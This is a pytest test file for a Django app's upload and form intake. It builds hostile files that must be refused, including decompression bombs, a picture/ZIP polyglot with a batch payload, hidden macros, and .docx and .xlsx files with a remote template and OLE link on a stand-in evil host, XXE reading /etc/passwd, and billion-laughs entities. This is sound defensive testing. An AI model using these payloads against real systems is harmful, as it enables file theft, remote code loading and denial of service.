"""Hostile files and bodies (issue 14, item 3): one table of cases, each sent through the real upload path (the
work page's upload endpoint that Uppy posts to, the API's file upload, the essay's .docx on the page and in the
API, the collectives' .xlsx import) or the real form and API body.

For every refused case: a 4xx (never a 5xx) with a specific Chinese reason that names the file or the field, and
nothing written — no new row in any table, no new file in storage, nothing left in the upload's temporary
directory. A few hostile-looking inputs are legitimate or are made harmless on the way in, and the table says so:
a file name with emoji or rare CJK characters (Extension B) is accepted and kept intact; the directories of a
path-traversal name, NUL bytes and right-to-left overrides are dropped from the name by the intake before the
platform sees it (the file itself is stored under a generated name), so those are accepted under the cleaned name
and nothing lands outside storage. Text that pages show or spreadsheets export is shown escaped and written as
text, never as markup or a formula.

Every file is made here (Pillow, PyAV, zipfile, python-docx, openpyxl); the media are small.
"""

import csv
import functools
import io
import json
import os
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

import pytest
from django.apps import apps
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from PIL import Image

from tests import factories
from tests.api.conftest import ApiClient
from tests.works.media_fixtures import (
    audio_only,
    docm,
    docx,
    files_under,
    gif,
    jpeg,
    jpeg_bomb,
    make_work,
    media_storage,  # noqa: F401 - fixture
    png,
    video,
)
from wenminghao.works.models import Work, WorkFile

CJK = re.compile(r"[\u4e00-\u9fff]")
BOUNDARY = "hostileBoundary7MA4YWxkTrZu0gW"


# --- hostile media, made here -------------------------------------------------------------------------------


def _small_png() -> bytes:
    return png(64, 48)


def _webp() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(buffer, "WEBP")
    return buffer.getvalue()


def _avif() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), (30, 200, 30)).save(buffer, "AVIF")
    return buffer.getvalue()


def _heic_like() -> bytes:
    """What an iPhone writes: an ISO base media file whose ftyp box names the heic brand (the rest is filler)."""
    ftyp = struct.pack(">I", 24) + b"ftypheic" + struct.pack(">I", 0) + b"mif1heic"
    meta = struct.pack(">I", 40) + b"meta" + bytes(32)
    return ftyp + meta + random.Random(7).randbytes(4000)


def _cut(fraction: float) -> Callable[[], bytes]:
    def make() -> bytes:
        data = jpeg()
        return data[: int(len(data) * fraction)]
    return make


def _cut_end(count: int) -> Callable[[], bytes]:
    def make() -> bytes:
        return jpeg()[:-count]
    return make


def _png_bomb(width: int, height: int) -> bytes:
    """A PNG of a few hundred bytes whose header declares width×height pixels (a decompression bomb)."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(4096), 9))
            + chunk(b"IEND", b""))


def _junk_after(header: bytes) -> Callable[[], bytes]:
    def make() -> bytes:
        return header + random.Random(len(header)).randbytes(30_000)
    return make


def _zip_bytes(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _polyglot(make: Callable[[], bytes]) -> Callable[[], bytes]:
    """A valid file with a ZIP archive appended: it opens as the picture (or video) and as an archive."""
    def build() -> bytes:
        return make() + _zip_bytes({"payload/run.bat": b"@echo off\r\ncalc.exe\r\n", "readme.txt": b"hidden"})
    return build


def _valid_jpeg() -> bytes:
    return jpeg()


def _mp4_durations(data: bytes, seconds: int) -> bytes:
    """Rewrite the durations an MP4 declares (mvhd, tkhd, mdhd) to ``seconds``; the samples stay as they are."""
    out = bytearray(data)
    timescale = 1000
    for box in (b"mvhd", b"tkhd", b"mdhd"):
        start = 0
        while (index := out.find(box, start)) != -1:
            start = index + 4
            body = index + 4
            version = out[body]
            if version != 0:
                continue
            if box == b"tkhd":
                out[body + 20:body + 24] = struct.pack(">I", timescale * seconds)  # in the movie's timescale
            else:
                scale = struct.unpack(">I", out[body + 12:body + 16])[0]
                if box == b"mvhd":
                    timescale = scale
                out[body + 16:body + 20] = struct.pack(">I", scale * seconds)
    return bytes(out)


def _mp4_31s_declaring_1s() -> bytes:
    return _mp4_durations(video(31, fps=2), 1)


def _mov_31s_declaring_1s() -> bytes:
    return _mp4_durations(video(31, kind="mov", fps=2), 1)


def _webm_31s_declaring_1s() -> bytes:
    """A 31 s WebM whose Segment Info says it lasts 1 s (EBML Duration, 0x4489, in milliseconds)."""
    data = bytearray(video(31, kind="webm", fps=2))
    index = data.find(b"\x44\x89")
    size = data[index + 2]
    if size == 0x88:
        data[index + 3:index + 11] = struct.pack(">d", 1000.0)
    else:
        data[index + 3:index + 7] = struct.pack(">f", 1000.0)
    return bytes(data)


def _mp4_without_frames() -> bytes:
    """An MP4 with a video track that holds no frame at all."""
    import av

    buffer = io.BytesIO()
    with av.open(buffer, mode="w", format="mp4") as container:
        stream = container.add_stream("mpeg4", rate=10)
        stream.width, stream.height = 64, 48
        stream.pix_fmt = "yuv420p"
        audio = container.add_stream("aac", rate=48000)
        audio.layout = "mono"
        from tests.works.media_fixtures import _write_silence
        _write_silence(container, audio, 2)
    return buffer.getvalue()


def _webm_audio_only() -> bytes:
    import av

    from tests.works.media_fixtures import _write_silence

    buffer = io.BytesIO()
    with av.open(buffer, mode="w", format="webm") as container:
        stream = container.add_stream("libopus", rate=48000)
        stream.layout = "mono"
        _write_silence(container, stream, 2)
    return buffer.getvalue()


def _wav() -> bytes:
    import av

    buffer = io.BytesIO()
    with av.open(buffer, mode="w", format="wav") as container:
        stream = container.add_stream("pcm_s16le", rate=8000)
        stream.layout = "mono"
        frame = av.AudioFrame(format="s16", layout="mono", samples=8000)
        frame.planes[0].update(bytes(frame.planes[0].buffer_size))
        frame.sample_rate = 8000
        frame.pts = 0
        for packet in stream.encode(frame):
            container.mux(packet)
        for packet in stream.encode():
            container.mux(packet)
    return buffer.getvalue()


def _small_mp4() -> bytes:
    return video(2)


# --- hostile Word and Excel files -----------------------------------------------------------------------------


def _rewrite_zip(source: bytes, changes: dict[str, bytes | Callable[[bytes], bytes]]) -> bytes:
    """A copy of a zip with some entries replaced (bytes), transformed (a function of the old bytes) or added."""
    original = zipfile.ZipFile(io.BytesIO(source))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        seen = set()
        for item in original.infolist():
            data = original.read(item.filename)
            change = changes.get(item.filename)
            if change is not None:
                data = change(data) if callable(change) else change
            seen.add(item.filename)
            target.writestr(item.filename, data)
        for name, change in changes.items():
            if name not in seen:
                target.writestr(name, change if isinstance(change, bytes) else change(b""))
    return buffer.getvalue()


@functools.lru_cache(maxsize=1)
def _essay_docx() -> bytes:
    return docx("我们的窗口从手写票据走到掌上办理。", "群众满意是我们的标准。")


def _docx_bomb() -> bytes:
    """A .docx of a few hundred KB whose document.xml unpacks to 210 MB (past ten times the 20 MB limit)."""
    buffer = io.BytesIO()
    source = zipfile.ZipFile(io.BytesIO(_essay_docx()))
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename == "word/document.xml":
                continue
            target.writestr(item.filename, source.read(item.filename))
        with target.open("word/document.xml", "w", force_zip64=True) as handle:
            handle.write(b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                         b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>')
            block = b" " * (1024 * 1024)
            for _ in range(210):
                handle.write(block)
            handle.write(b"</w:t></w:r></w:p></w:body></w:document>")
    return buffer.getvalue()


def _docx_lying_sizes() -> bytes:
    """A .docx whose document.xml declares 200 bytes unpacked but holds 20 MB (the headers lie about the size)."""
    data = bytearray(_rewrite_zip(_essay_docx(), {
        "word/document.xml": lambda old: old.replace(b"</w:body>", b"<w:p><w:r><w:t>" + b"x" * 20_000_000
                                                     + b"</w:t></w:r></w:p></w:body>"),
    }))
    archive = zipfile.ZipFile(io.BytesIO(bytes(data)))
    info = archive.getinfo("word/document.xml")
    # the local header's uncompressed size (offset 22) and the central directory's (offset 24)
    data[info.header_offset + 22:info.header_offset + 26] = struct.pack("<I", 200)
    central = data.rfind(b"PK\x01\x02" + data[info.header_offset + 4:info.header_offset + 6])
    while central != -1:
        name_length = struct.unpack("<H", data[central + 28:central + 30])[0]
        if bytes(data[central + 46:central + 46 + name_length]) == b"word/document.xml":
            data[central + 24:central + 28] = struct.pack("<I", 200)
            break
        central = data.rfind(b"PK\x01\x02", 0, central)
    return bytes(data)


def _docx_with_hidden_macro() -> bytes:
    """A .docx whose content types look plain but which carries a vbaProject.bin."""
    return _rewrite_zip(_essay_docx(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 macro"})


_EXTERNAL_TEMPLATE_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://evil.example.org/template.dotm" TargetMode="External"/></Relationships>'
)


def _docx_external_template() -> bytes:
    """Remote template injection: settings.xml names a template that Word fetches from the internet."""
    return _rewrite_zip(_essay_docx(), {
        "word/settings.xml": lambda old: old.replace(
            b"</w:settings>", b'<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships" r:id="rId1"/></w:settings>'),
        "word/_rels/settings.xml.rels": _EXTERNAL_TEMPLATE_RELS,
    })


def _docx_external_object() -> bytes:
    """An OLE object linked from a remote address (TargetMode="External") in the document's relationships."""
    return _rewrite_zip(_essay_docx(), {
        "word/_rels/document.xml.rels": lambda old: old.replace(
            b"</Relationships>",
            b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'oleObject" Target="\\\\evil.example.org\\share\\x.xls" TargetMode="External"/></Relationships>'),
    })


def _docx_external_hyperlink() -> bytes:
    """A hyperlink is an external relationship too, and an ordinary one: accepted."""
    return _rewrite_zip(_essay_docx(), {
        "word/_rels/document.xml.rels": lambda old: old.replace(
            b"</Relationships>",
            b'<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'hyperlink" Target="https://www.gqt.org.cn/" TargetMode="External"/></Relationships>'),
    })


_LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (level, (b"&lol%d;" % (level - 1) if level > 1 else b"&lol;") * 10)
               for level in range(1, 10))
    + b"]>"
)


def _with_laughs(xml: bytes, entity: bytes = b"&lol9;") -> bytes:
    """The XML with a billion-laughs DTD before its root element and the entity used in its first text."""
    head, _, rest = xml.partition(b"?>")
    rest = rest.replace(b"<w:t>", b"<w:t>" + entity, 1) if b"<w:t>" in rest else rest
    return head + b"?>" + _LAUGHS + rest


def _docx_billion_laughs() -> bytes:
    return _rewrite_zip(_essay_docx(), {"word/document.xml": _with_laughs})


def _docx_external_entity() -> bytes:
    """XXE: an external entity that would read a file of the server."""
    def change(old: bytes) -> bytes:
        head, _, rest = old.partition(b"?>")
        return (head + b'?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                + rest.replace(b"<w:t>", b"<w:t>&xxe;", 1))
    return _rewrite_zip(_essay_docx(), {"word/document.xml": change})


def _docx_utf16_laughs() -> bytes:
    """The billion laughs again, in a UTF-16 document.xml (a DTD is looked for in any encoding)."""
    def change(old: bytes) -> bytes:
        text = _with_laughs(old).decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
        return text.encode("utf-16")
    return _rewrite_zip(_essay_docx(), {"word/document.xml": change})


def _import_workbook() -> bytes:
    """The collectives import workbook with one valid row (the template's sheets and headers)."""
    from wenminghao.collectives.importer import COLLECTIVE_COLUMNS, COLLECTIVE_SHEET, MEMBER_COLUMNS, MEMBER_SHEET

    book = Workbook()
    sheet = book.active
    sheet.title = COLLECTIVE_SHEET
    sheet.append([column.header for column in COLLECTIVE_COLUMNS])
    sheet.append(["导入测试窗口", "环翠区政务服务中心", "", "服务行业和窗口单位", "国有企业", "窗口", "张三",
                  "13800000000", "", "", ""])
    members = book.create_sheet(MEMBER_SHEET)
    members.append([column.header for column in MEMBER_COLUMNS])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _with_dtd(xml: bytes, dtd: bytes, entity: bytes, before: bytes) -> bytes:
    """The XML with ``dtd`` before its root element and ``entity`` used at the first ``before`` tag."""
    if xml.startswith(b"<?xml"):
        head, _, rest = xml.partition(b"?>")
        head += b"?>"
    else:
        head, rest = b"", xml
    return head + dtd + rest.replace(before, before + entity, 1)


def _xlsx_laughs(part: str) -> Callable[[], bytes]:
    def make() -> bytes:
        return _rewrite_zip(_import_workbook(), {part: lambda old: _with_dtd(old, _LAUGHS, b"&lol9;", b"<t>")})
    return make


def _xlsx_external_entity() -> bytes:
    dtd = b'<!DOCTYPE s [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return _rewrite_zip(_import_workbook(), {
        "xl/worksheets/sheet1.xml": lambda old: _with_dtd(old, dtd, b"&xxe;", b"<t>")})


def _xlsx_macro() -> bytes:
    return _rewrite_zip(_import_workbook(), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})


# --- the table -----------------------------------------------------------------------------------------------

# via: page (the work page's upload, as Uppy posts it: JSON answers), api (POST /api/v1/works/{id}/files),
#   page_essay (the essay form's .docx), api_essay (PUT /api/v1/works/{id}/essay, multipart or JSON),
#   api_create / api_patch (the works API's JSON body), page_create (the new-work form), page_caption
#   (a caption with the upload), import (the collectives' .xlsx import page)


@dataclass(frozen=True)
class Case:
    id: str
    via: str
    work: str = "photo"  # photo, video, h5, essay (the work the file goes to)
    name: str = ""  # the file name as sent
    make: Callable[[], bytes] | None = None
    fields: dict = field(default_factory=dict)  # form fields or the JSON body
    status: int = 422
    says: str = ""  # a specific part of the reason
    names: str = ""  # what the reason must name: the file as shown, or the field


PICTURE, VIDEO, H5, ESSAY = "photo", "video", "h5", "essay"
LONG = "长" * 10_000
NUL = "窗口\x00服务"

REFUSED = [
    # renamed pictures: the content decides, never the name
    Case("png-as-jpg-page", "page", name="照片.jpg", make=_small_png, says="实际为PNG格式"),
    Case("png-as-jpg-api", "api", name="照片.jpg", make=_small_png, says="实际为PNG格式"),
    Case("gif-as-jpg", "page", name="动图.jpg", make=lambda: gif(64, 48), says="实际为GIF格式"),
    Case("webp-as-jpg", "page", name="网页图.jpg", make=_webp, says="实际为WEBP格式"),
    Case("webp-as-jpg-api", "api", name="网页图.jpg", make=_webp, says="实际为WEBP格式"),
    Case("avif-as-jpg", "api", name="新格式.jpg", make=_avif, says="实际为AVIF格式"),
    Case("heic-as-jpg-page", "page", name="IMG_0001.jpg", make=_heic_like, says="实际为HEIC格式"),
    Case("heic-as-jpg-api", "api", name="IMG_0002.jpg", make=_heic_like, says="实际为HEIC格式"),
    Case("webp-as-screenshot", "page", work=H5, name="截图.png", make=_webp, says="实际为WEBP格式"),
    # truncated and empty files
    Case("jpeg-cut-in-header", "page", name="半截.jpg", make=_cut(0.002), says="第1张图片（半截.jpg）"),
    Case("jpeg-cut-at-10pc", "page", name="半截.jpg", make=_cut(0.10), says="已损坏或不完整"),
    Case("jpeg-cut-at-50pc", "api", name="半截.jpg", make=_cut(0.50), says="已损坏或不完整"),
    Case("jpeg-cut-at-90pc", "page", name="半截.jpg", make=_cut(0.90), says="已损坏或不完整"),
    Case("jpeg-cut-at-99pc", "api", name="半截.jpg", make=_cut(0.99), says="已损坏或不完整"),
    Case("jpeg-without-last-200-bytes", "page", name="半截.jpg", make=_cut_end(200), says="已损坏或不完整"),
    Case("png-screenshot-cut", "api", work=H5, name="截图.png", make=lambda: png()[: len(png()) // 2],
         says="已损坏或不完整"),
    Case("zero-byte-picture-page", "page", name="空.jpg", make=lambda: b"", says="空文件（0字节）"),
    Case("zero-byte-picture-api", "api", name="空.jpg", make=lambda: b"", says="空文件（0字节）"),
    Case("zero-byte-video", "api", work=VIDEO, name="空.mp4", make=lambda: b"", says="空文件（0字节）"),
    Case("zero-byte-screenshot", "page", work=H5, name="空.png", make=lambda: b"", says="空文件（0字节）"),
    Case("zero-byte-docx-page", "page_essay", work=ESSAY, name="空.docx", make=lambda: b"", says="空文件（0字节）"),
    Case("zero-byte-docx-api", "api_essay", work=ESSAY, name="空.docx", make=lambda: b"", says="空文件（0字节）"),
    # decompression bombs: in pixels (a tiny file declaring a huge picture) and in zip
    Case("jpeg-bomb-page", "page", name="炸弹.jpg", make=jpeg_bomb, says="像素数过大"),
    Case("jpeg-bomb-api", "api", name="炸弹.jpg", make=jpeg_bomb, says="像素数过大"),
    Case("jpeg-bomb-just-over-cap", "page", name="大图.jpg", make=lambda: jpeg_bomb(12000, 10001),
         says="像素数过大"),
    Case("png-bomb-screenshot", "page", work=H5, name="炸弹.png", make=lambda: _png_bomb(100_000, 100_000),
         says="像素数过大"),
    Case("png-bomb-screenshot-api", "api", work=H5, name="炸弹.png", make=lambda: _png_bomb(12000, 10001),
         says="像素数过大"),
    Case("docx-zip-bomb-page", "page_essay", work=ESSAY, name="炸弹.docx", make=_docx_bomb, says="解压后过大"),
    Case("docx-zip-bomb-lying-sizes", "api_essay", work=ESSAY, name="谎报.docx", make=_docx_lying_sizes,
         says="已损坏"),
    # videos: the packets decide, never the container's declared duration
    Case("mp4-31s-declaring-1s", "page", work=VIDEO, name="宣传片.mp4", make=_mp4_31s_declaring_1s,
         says="播放时长为31.0秒"),
    Case("mp4-31s-declaring-1s-api", "api", work=VIDEO, name="宣传片.mp4", make=_mp4_31s_declaring_1s,
         says="播放时长为31.0秒"),
    Case("mov-31s-declaring-1s", "api", work=VIDEO, name="宣传片.mov", make=_mov_31s_declaring_1s,
         says="播放时长为31.0秒"),
    Case("webm-31s-declaring-1s", "page", work=VIDEO, name="宣传片.webm", make=_webm_31s_declaring_1s,
         says="播放时长为31.0秒"),
    Case("mp4-video-track-without-frames", "api", work=VIDEO, name="无画面.mp4", make=_mp4_without_frames,
         says="没有可读取的视频画面"),
    Case("audio-only-mp4", "page", work=VIDEO, name="录音.mp4", make=audio_only, says="没有可读取的视频画面"),
    Case("audio-only-webm", "api", work=VIDEO, name="录音.webm", make=_webm_audio_only, says="没有可读取的视频画面"),
    Case("wav-as-mp4", "api", work=VIDEO, name="录音.mp4", make=_wav, says="不是支持的视频或动画格式"),
    Case("still-gif-as-animation", "page", work=VIDEO, name="静图.gif", make=lambda: gif(64, 48),
         says="没有可读取的视频画面"),
    Case("jpeg-as-video", "api", work=VIDEO, name="照片.mp4", make=_valid_jpeg, says="不是支持的视频或动画格式"),
    # junk behind a valid header
    Case("jpeg-soi-then-junk-page", "page", name="伪装.jpg", make=_junk_after(b"\xff\xd8\xff\xe0"),
         says="第1张图片（伪装.jpg）"),
    Case("jpeg-soi-then-junk-api", "api", name="伪装.jpg", make=_junk_after(b"\xff\xd8"), says="第1张图片（伪装.jpg）"),
    Case("png-signature-then-junk", "page", work=H5, name="伪装.png", make=_junk_after(b"\x89PNG\r\n\x1a\n"),
         says="第1张截图（伪装.png）"),
    Case("ftyp-then-junk", "api", work=VIDEO, name="伪装.mp4",
         make=_junk_after(struct.pack(">I", 24) + b"ftypisom\x00\x00\x02\x00isomiso2"), says="视频文件（伪装.mp4）"),
    Case("zip-header-then-junk-docx", "api_essay", work=ESSAY, name="伪装.docx", make=_junk_after(b"PK\x03\x04"),
         says="不是有效的Word文档"),
    Case("text-as-docx", "page_essay", work=ESSAY, name="正文.docx", make=lambda: "正文".encode() * 100,
         says="不是有效的Word文档"),
    # polyglots: a valid file that is also a ZIP archive
    Case("jpeg-plus-zip-page", "page", name="合成.jpg", make=_polyglot(_valid_jpeg), says="附加了ZIP压缩包"),
    Case("jpeg-plus-zip-api", "api", name="合成.jpg", make=_polyglot(_valid_jpeg), says="附加了ZIP压缩包"),
    Case("png-plus-zip-screenshot", "api", work=H5, name="合成.png", make=_polyglot(lambda: png(64, 48)),
         says="ZIP"),
    Case("mp4-plus-zip", "page", work=VIDEO, name="合成.mp4", make=_polyglot(_small_mp4), says="附加了ZIP压缩包"),
    # Word documents with macros, remote parts or entity tricks
    Case("docm-page", "page_essay", work=ESSAY, name="宏.docm", make=lambda: docm("正文"), says="启用宏"),
    Case("docm-renamed-docx-api", "api_essay", work=ESSAY, name="宏.docx", make=lambda: docm("正文"), says="启用宏"),
    Case("docx-with-vbaproject", "api_essay", work=ESSAY, name="藏宏.docx", make=_docx_with_hidden_macro,
         says="启用宏"),
    Case("docx-external-template", "page_essay", work=ESSAY, name="模板.docx", make=_docx_external_template,
         says="外部"),
    Case("docx-external-template-api", "api_essay", work=ESSAY, name="模板.docx", make=_docx_external_template,
         says="外部"),
    Case("docx-external-ole-object", "api_essay", work=ESSAY, name="链接.docx", make=_docx_external_object,
         says="外部"),
    Case("docx-billion-laughs", "api_essay", work=ESSAY, name="笑.docx", make=_docx_billion_laughs,
         says="实体"),
    Case("docx-billion-laughs-page", "page_essay", work=ESSAY, name="笑.docx", make=_docx_billion_laughs,
         says="实体"),
    Case("docx-billion-laughs-utf16", "api_essay", work=ESSAY, name="笑16.docx", make=_docx_utf16_laughs,
         says="实体"),
    Case("docx-external-entity", "api_essay", work=ESSAY, name="外部实体.docx", make=_docx_external_entity,
         says="实体"),
    # Excel workbooks of the collectives' import
    Case("xlsx-billion-laughs-properties", "import", name="集体.xlsx", make=_xlsx_laughs("docProps/core.xml"),
         says="无法读取“集体.xlsx”"),
    Case("xlsx-billion-laughs-sheet", "import", name="集体.xlsx", make=_xlsx_laughs("xl/worksheets/sheet1.xml"),
         says="无法读取“集体.xlsx”"),
    Case("xlsx-billion-laughs-workbook", "import", name="集体.xlsx", make=_xlsx_laughs("xl/workbook.xml"),
         says="无法读取“集体.xlsx”"),
    Case("xlsx-external-entity", "import", name="集体.xlsx", make=_xlsx_external_entity, says="无法读取“集体.xlsx”"),
    Case("xlsm-macro-as-xlsx", "import", name="集体.xlsx", make=_xlsx_macro, says="宏"),
    Case("zero-byte-xlsx", "import", name="集体.xlsx", make=lambda: b"", says="集体.xlsx"),
    # overlong fields and NUL bytes in fields
    Case("title-10000-chars-api", "api_create", fields={"title": LONG}, says="最多100个字符", names="title"),
    Case("title-10000-chars-page", "page_create", fields={"title": LONG}, says="100", names="作品名称"),
    Case("title-10000-chars-patch", "api_patch", fields={"title": LONG}, says="最多100个字符", names="title"),
    Case("description-10000-chars-api", "api_create", fields={"description": LONG}, says="超过200字",
         names="作品说明"),
    Case("contact-10000-chars-api", "api_create", fields={"contact_name": LONG}, says="联系人", names="联系人"),
    Case("caption-10000-chars-page", "page_caption", name="照片.jpg", make=_valid_jpeg, fields={"caption": LONG},
         says="超过200字", names="图片说明"),
    Case("caption-10000-chars-api", "api", name="照片.jpg", make=_valid_jpeg, fields={"caption": LONG},
         says="超过200字", names="图片说明"),
    Case("essay-text-100000-chars-api", "api_essay", work=ESSAY, fields={"text": LONG * 10}, says="不超过2000字",
         names="征文"),
    Case("nul-in-title-api", "api_create", fields={"title": NUL}, says="空字符", names="title"),
    Case("nul-in-title-page", "page_create", fields={"title": NUL}, says="空字符", names="作品名称"),
    Case("nul-in-contact-patch", "api_patch", fields={"contact_name": NUL}, says="空字符", names="contact_name"),
    Case("nul-in-caption-page", "page_caption", name="照片.jpg", make=_valid_jpeg, fields={"caption": NUL},
         says="空字符", names="图片说明"),
    Case("nul-in-caption-api", "api", name="照片.jpg", make=_valid_jpeg, fields={"caption": NUL}, says="空字符",
         names="图片说明"),
    Case("nul-in-essay-text-api", "api_essay", work=ESSAY, fields={"text": NUL}, says="空字符", names="征文正文"),
    # file names Windows cannot save (the reviewers download and unpack the works' files there)
    Case("windows-con", "page", name="CON.jpg", make=_valid_jpeg, says="Windows", names="CON.jpg"),
    Case("windows-nul", "api", name="NUL.jpg", make=_valid_jpeg, says="Windows", names="NUL.jpg"),
    Case("windows-aux-docx", "api_essay", work=ESSAY, name="aux.docx", make=_essay_docx, says="Windows",
         names="aux.docx"),
    Case("windows-com1", "page", name="com1.JPG", make=_valid_jpeg, says="Windows", names="com1.JPG"),
    Case("windows-lpt9-two-dots", "api", name="LPT9.photo.jpg", make=_valid_jpeg, says="Windows",
         names="LPT9.photo.jpg"),
    Case("trailing-dot", "page", name="照片.jpg.", make=_valid_jpeg, says="句点或空格结尾", names="照片.jpg."),
    Case("trailing-space", "api", name="照片.jpg ", make=_valid_jpeg, says="句点或空格结尾", names="照片.jpg "),
    Case("trailing-dot-docx", "page_essay", work=ESSAY, name="征文.docx.", make=_essay_docx, says="句点或空格结尾",
         names="征文.docx."),
]


def _cjk_name(case: Case) -> str:
    """What the reason must name: the file as the intake shows it (the last part of the name), or the field."""
    return case.names or os.path.basename(case.name.replace("\\", "/"))


# --- sending -------------------------------------------------------------------------------------------------


def multipart(file_name: str | None, data: bytes | None, fields: dict | None = None) -> tuple[bytes, str]:
    """A multipart body written by hand, so the file name goes exactly as given (Django's test client would keep
    only its last part)."""
    parts = []
    for key, value in (fields or {}).items():
        parts.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode())
    if file_name is not None:
        quoted = file_name.replace('"', "%22")
        parts.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="{quoted}"\r\n'
                     "Content-Type: application/octet-stream\r\n\r\n".encode() + data + b"\r\n")
    parts.append(f"--{BOUNDARY}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={BOUNDARY}"


@pytest.fixture
def world(tree, users, media_storage, client, settings):  # noqa: F811
    campaign = factories.campaign(office=tree["city"], name="2018年度威海市青年文明号创建")
    api = ApiClient(client)
    api.headers(users["leader_a"])  # the token exists before anything is counted
    return {"campaign": campaign, "tree": tree, "users": users, "media": media_storage, "client": client,
            "api": api}


def sign_in(world, role: str = "leader_a"):
    client = world["client"]
    client.force_login(world["users"][role], backend="wenminghao.accounts.backends.UsernameOrMobileBackend")
    return client


WORK_KINDS = {
    PICTURE: {"category": "photo"},
    VIDEO: {"category": "publicity"},
    H5: {"category": "publicity", "display_form": "h5", "url": "https://h5.example.org/"},
    ESSAY: {"category": "essay"},
}


def work_for(world, kind: str) -> Work:
    spec = dict(WORK_KINDS[kind])
    category = spec.pop("category")
    return make_work(actor=world["users"]["leader_a"], collective=world["tree"]["collective_a"],
                     campaign=world["campaign"], category=category, **spec)


def send(world, case: Case, work: Work | None):
    """Send the case the way a browser, Uppy or an API client does; the response."""
    client, api, leader = world["client"], world["api"], world["users"]["leader_a"]
    data = case.make() if case.make is not None else None
    if case.via in ("page", "page_caption"):
        body, content_type = multipart(case.name, data, case.fields)
        return client.post(reverse("works:upload", args=[work.pk]), body, content_type=content_type,
                           headers={"Accept": "application/json"})
    if case.via == "api":
        body, content_type = multipart(case.name, data, case.fields)
        return client.post(f"/api/v1/works/{work.pk}/files", body, content_type=content_type,
                           headers=api.headers(leader))
    if case.via == "page_essay":
        body, content_type = multipart(case.name, data, case.fields)
        return client.post(reverse("works:essay", args=[work.pk]), body, content_type=content_type)
    if case.via == "api_essay":
        if data is None:
            return client.put(f"/api/v1/works/{work.pk}/essay", json.dumps(case.fields),
                              content_type="application/json", headers=api.headers(leader))
        body, content_type = multipart(case.name, data)
        return client.put(f"/api/v1/works/{work.pk}/essay", body, content_type=content_type,
                          headers=api.headers(leader))
    if case.via == "api_create":
        payload = {"collective": world["tree"]["collective_a"].pk, "campaign": world["campaign"].pk,
                   "category": "photo", "display_form": "picture", "title": "窗口里的四十年",
                   "contact_name": "王联系", "contact_phone": "13900000000", **case.fields}
        return api.post("/works", payload, user=leader)
    if case.via == "api_patch":
        return client.patch(f"/api/v1/works/{work.pk}", json.dumps(case.fields), content_type="application/json",
                            headers=api.headers(leader))
    if case.via == "page_create":
        form = {"campaign": world["campaign"].pk, "category": "photo", "display_form": "picture",
                "title": "窗口里的四十年", "description": "", "contact_name": "王联系",
                "contact_phone": "13900000000", **case.fields}
        return client.post(reverse("works:create"), form)
    if case.via == "import":
        body, content_type = multipart(case.name, data)
        return client.post(reverse("collectives:import"), body, content_type=content_type)
    raise AssertionError(case.via)


def row_counts() -> dict[str, int]:
    return {model._meta.label: model._base_manager.count() for model in apps.get_models()
            if model._meta.managed and not model._meta.proxy}


def listing(world) -> tuple[list, list]:
    media_root, temp_dir = world["media"]
    return files_under(media_root), files_under(temp_dir)


def reasons(response) -> list[str]:
    """The refusal's messages: from the errors shape (JSON) or, for a page, its text."""
    if response["Content-Type"].startswith("application/json"):
        return [error["message"] for error in response.json()["errors"]]
    page = re.sub(r"<(script|style)\b.*?</\1>", " ", response.content.decode(), flags=re.S)
    return [re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", page))]


def _needs_work(case: Case) -> bool:
    return case.via not in ("api_create", "page_create", "import")


@pytest.mark.parametrize("case", REFUSED, ids=[case.id for case in REFUSED])
def test_hostile_input_is_refused_with_a_specific_reason_and_writes_nothing(world, case):
    work = work_for(world, case.work) if _needs_work(case) else None
    sign_in(world, "unit_admin_a" if case.via == "import" else "leader_a")
    counts, files = row_counts(), listing(world)
    response = send(world, case, work)
    assert 400 <= response.status_code < 500, (response.status_code, response.content[:500])
    assert response.status_code == case.status, response.content[:500]
    found = reasons(response)
    reason = next((text for text in found if case.says in text), None)
    assert reason is not None, (case.says, found)
